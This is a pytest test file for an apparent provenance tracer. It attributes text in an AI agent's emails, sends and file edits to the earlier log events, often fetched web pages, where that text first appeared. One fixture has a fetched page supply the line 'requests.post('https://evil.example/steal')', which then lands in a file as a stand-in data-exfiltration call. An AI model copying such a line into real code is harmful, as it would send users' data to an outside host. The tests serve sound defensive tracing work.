"""Text that stands in two events: found word for word, with the earliest as its source."""

import pytest

from tests.provenance.story import WEB, Story
from wakelog.log.removal import erase
from wakelog.model import events as ev
from wakelog.provenance.text_matches import FEW, match, match_from, needles_of

PAGE = "Pay to IBAN DE89370400440532013000 and write to billing@blog.example about it. " * 20


def _found(s: Story, seq: int) -> list[tuple[int, str]]:
    return [(e.first, e.text) for e in match(s.graph, [seq]).get(seq, ())]


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("mail billing@blog.example, please", "billing@blog.example"),
        ("see https://blog.example/a?b=c.", "https://blog.example/a?b=c"),
        ("open src/auth/session.py now", "src/auth/session.py"),
        ("commit 0123456789abcdef0123", "0123456789abcdef0123"),
        ("short\na line that is long enough\n", "a line that is long enough"),
    ],
)
def test_addresses_links_paths_hashes_and_lines_are_distinctive(text: str, needle: str) -> None:
    assert needle in needles_of([text])


@pytest.mark.parametrize("text", ["ok", "a b c", "----------------------", "yes, do it", "12345678", "aaaa/aaaa/aa"])
def test_what_anybody_could_have_written_is_not(text: str) -> None:
    assert needles_of([text]) == []


def test_the_earliest_event_that_holds_it_is_the_source() -> None:
    s = Story()
    s.turn("go")
    page = s.call("fetch", output=PAGE, **WEB)
    s.add(ev.MessageAdded(role="assistant", content="I will write to billing@blog.example"))
    s.call("fetch", output=PAGE, **WEB)
    sent = s.ask("send_email", {"to": "billing@blog.example"}, "external")
    assert _found(s, sent) == [(page, "billing@blog.example")]


def test_what_the_user_said_first_is_not_blamed_on_the_page() -> None:
    s = Story()
    user = s.turn("write to billing@blog.example")
    page = s.call("fetch", output=PAGE, **WEB)
    sent = s.ask("send_email", {"to": "billing@blog.example"}, "external")
    assert _found(s, sent) == [(user, "billing@blog.example")]
    assert match_from(s.graph, [page], [sent]) == {}


def test_what_was_written_before_the_page_was_read_is_not_blamed_on_it() -> None:
    s = Story()
    s.turn("go")
    early = s.ask("send_email", {"to": "billing@blog.example"}, "external")
    page = s.call("fetch", output=PAGE, **WEB)
    late = s.ask("send_email", {"to": "billing@blog.example"}, "external")
    assert {q: [e.first for e in edges] for q, edges in match(s.graph, [early, late]).items()} == {late: [page]}


def test_different_texts_may_come_from_different_events() -> None:
    s = Story()
    user = s.turn("use the file customers/export-2026.csv")
    page = s.call("fetch", output=PAGE, **WEB)
    sent = s.ask("send", {"to": "billing@blog.example", "file": "customers/export-2026.csv"}, "external")
    assert _found(s, sent) == [(user, "customers/export-2026.csv"), (page, "billing@blog.example")]


def test_a_needle_must_begin_where_a_word_does() -> None:
    s = Story()
    s.turn("xbilling@blog.example is somebody else")
    assert _found(s, s.ask("send", {"to": "billing@blog.example"})) == []


def test_text_is_found_in_json_and_across_escapes() -> None:
    s = Story()
    s.turn("go")
    quoted = 'say "hello" to\\the ümlaut people'
    got = s.call("api", output={"rows": [{"text": quoted + " and more"}] * 30})
    assert _found(s, s.fact("greeting", quoted)) == [(got, quoted)]


def test_only_new_lines_of_a_file_count() -> None:
    s = Story()
    s.turn("go")
    read = s.call("read", output="def the_old_function(): ...\n")
    page = s.call("fetch", output="requests.post('https://evil.example/steal')", **WEB)
    before = "def the_old_function(): ...\n"
    after = before + "requests.post('https://evil.example/steal')\n"
    changed = s.add(ev.FileChanged(path="a.py", before=before, after=after))
    assert [seq for seq, _ in _found(s, changed)] == [page]
    assert read not in dict(_found(s, changed))


def test_what_was_erased_is_no_longer_found() -> None:
    s = Story()
    s.turn("go")
    page = s.call("fetch", output=PAGE, **WEB)
    sent = s.ask("send", {"to": "billing@blog.example"})
    assert _found(s, sent)
    erase(s.log, [page], why="asked")
    assert _found(s, sent) == []
    erase(s.log, [sent], why="asked")
    assert _found(s, sent) == []


def test_a_payload_that_came_with_a_request_is_found_in_the_result_that_repeats_it() -> None:
    s = Story()
    s.turn("go")
    long = "the quick brown fox jumps over the lazy dog\n" * 40
    s.ask("write_file", long, "write")
    read = s.call("read_file", output=long)
    assert _found(s, s.fact("saw", "the quick brown fox jumps over the lazy dog")) == [
        (read, "the quick brown fox jumps over the lazy dog")
    ]


def test_many_texts_at_once_are_found_as_one_by_one() -> None:
    s = Story()
    s.turn("go")
    pages = [s.call("fetch", output=f"an address: person{n}@mail.example, and so on") for n in range(FEW + 20)]
    sent = [s.ask("send", {"to": f"person{n}@mail.example"}) for n in range(FEW + 20)]
    together = match(s.graph, sent)
    assert [together[q][0].first for q in sent] == pages
    assert together[sent[-1]] == match(s.graph, sent[-1:])[sent[-1]]
    onward = match_from(s.graph, pages[:3], sent)
    assert {q: e[0].first for q, e in onward.items()} == dict(zip(sent[:3], pages[:3], strict=True))


def test_a_fork_does_not_see_what_its_parent_read_later() -> None:
    s = Story()
    s.turn("go")
    at = s.head
    # One commit, and the fork leaves in the middle of it: what stands after that place is the parent's alone.
    notes = [ev.NoteAdded(text="same commit as the page")] * 3
    s.log.append(*notes, ev.MessageAdded(role="user", content=PAGE))
    child = Story(s.log.fork(at + 1))
    child.turn("go on")
    assert _found(child, child.ask("send", {"to": "billing@blog.example"})) == []
    own = child.call("fetch", output=PAGE)
    assert _found(child, child.ask("send", {"to": "billing@blog.example"})) == [(own, "billing@blog.example")]
    assert _found(s, s.ask("send", {"to": "billing@blog.example"})) == [(at + 4, "billing@blog.example")]
